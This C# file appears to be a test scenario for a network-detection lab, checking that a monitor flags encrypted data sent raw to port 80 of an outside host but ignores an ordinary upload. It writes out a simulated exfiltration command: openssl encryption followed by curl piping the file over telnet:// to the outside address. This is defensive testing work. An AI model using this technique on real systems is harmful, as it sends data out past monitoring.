using System.Net.Sockets;
using Blackwall.Lab.Servers;

namespace Blackwall.Lab.Story.Scenes;

/// <summary>
/// A file leaves for port 80 of a stranger, encrypted and with no request before it (openssl, curl), over both families. The same bytes in an
/// upload from another address are nothing to tell.
/// </summary>
public sealed class CipherScene(int guest) : IScene
{
    private static readonly TimeSpan s_limit = TimeSpan.FromSeconds(20);

    public string Title => "Cipher to a clear-text port beside an upload (openssl, curl)";

    public async Task PlayAsync(Play play, CancellationToken cancellation)
    {
        var (stage, server) = (play.Stage, play.Stage.Network.Server);
        var outside = await stage.Network.AddGuestAsync(guest);
        await using var box = await DropBox.StartAsync(outside, stage.Run, cancellation);
        play.Narrator.Say("the server says cipher to port 80 of a stranger, and uploads the same from another address");
        var watch = new InsideWatch(play, Title);
        var (plain, cipher) = (stage.Run.File("plain"), stage.Run.File("cipher"));
        await File.WriteAllBytesAsync(plain, new byte[20_000], cancellation);
        await server.Network.TryAsync(["openssl", "enc", "-aes-256-ctr", "-pbkdf2", "-pass", "pass:secret", "-in", plain, "-out", cipher], s_limit, cancellation);
        foreach (var (user, thief, where) in new[]
        {
            (server.Addresses4[1], server.Addresses4[0], outside.Addresses4[0]),
            (server.Addresses6[1], server.Addresses6[0], outside.Addresses6[0]),
        })
        {
            var host = where.AddressFamily == AddressFamily.InterNetworkV6 ? $"[{where}]" : $"{where}";
            var sent = await server.Network.TryAsync(["curl", "-s", "-o", "/dev/null", "-w", "%{size_upload}", "--interface", $"{user}", "-H", "Expect:", "-T", cipher, $"http://{host}/box"], s_limit, cancellation);
            play.Facts.Is(Title, $"bytes that {user} uploaded", $"{new FileInfo(cipher).Length}", sent.Output.Trim());
            await server.Network.TryAsync(["sh", "-c", $"curl -s -o /dev/null --max-time 3 --interface {thief} telnet://{host}:80 < {cipher}"], s_limit, cancellation);
            await watch.ToldAsync(thief, "cleartext-entropy", cancellation);
            await watch.NotToldAsync(user, "cleartext-entropy", cancellation);
        }

        await watch.NobodyActedOnAsync([.. outside.Addresses4, .. outside.Addresses6, .. server.Addresses4, .. server.Addresses6], cancellation);
    }
}
